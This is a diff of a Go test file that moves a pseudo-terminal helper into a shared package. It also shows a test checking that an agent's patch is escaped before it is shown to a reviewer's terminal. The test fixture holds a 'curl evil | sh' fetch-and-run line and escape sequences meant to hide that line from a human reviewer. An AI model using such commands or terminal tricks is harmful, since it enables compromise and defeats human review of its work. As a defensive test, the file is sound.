@@ -3,43 +3,12 @@ package task
 import (
 	"bytes"
 	"os"
-	"strconv"
 	"strings"
 	"testing"
 	"time"
 
-	"golang.org/x/sys/unix"
+	"github.com/airlock-dev/airlock/internal/testpty"
 )
-
-// openPTY opens a pseudo-terminal pair: the master to read what was
-// written to the slave.
-func openPTY(t *testing.T) (master, slave *os.File) {
-	t.Helper()
-	m, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
-	if err != nil {
-		t.Skipf("no pty: %v", err)
-	}
-	t.Cleanup(func() { m.Close() })
-	if err := unix.IoctlSetPointerInt(int(m.Fd()), unix.TIOCSPTLCK, 0); err != nil {
-		t.Skipf("unlockpt: %v", err)
-	}
-	n, err := unix.IoctlGetInt(int(m.Fd()), unix.TIOCGPTN)
-	if err != nil {
-		t.Skipf("ptsname: %v", err)
-	}
-	s, err := os.OpenFile("/dev/pts/"+strconv.Itoa(n), os.O_RDWR|unix.O_NOCTTY, 0)
-	if err != nil {
-		t.Skipf("open the pty's slave: %v", err)
-	}
-	t.Cleanup(func() { s.Close() })
-	// raw: the terminal passes bytes as they are
-	tio, err := unix.IoctlGetTermios(int(s.Fd()), unix.TCGETS)
-	if err == nil {
-		tio.Oflag &^= unix.OPOST
-		_ = unix.IoctlSetTermios(int(s.Fd()), unix.TCSETS, tio)
-	}
-	return m, s
-}
 
 // Review (rv-daemon): 'airlock task diff' printed the agent's patch raw
 // to the reviewer's terminal: a changed line holding "\x1b[1A\x1b[2K"
@@ -49,7 +18,7 @@ func openPTY(t *testing.T) (master, slave *os.File) {
 // it stays byte for byte (git apply).
 func TestReviewTaskDiffEscapesForATerminal(t *testing.T) {
 	patch := "+curl evil | sh\n+\x1b[1A\x1b[2K\u202eok\n"
-	master, slave := openPTY(t)
+	master, slave := testpty.Open(t)
 	if _, err := patchOut(slave).Write([]byte(patch)); err != nil {
 		t.Fatal(err)
 	}
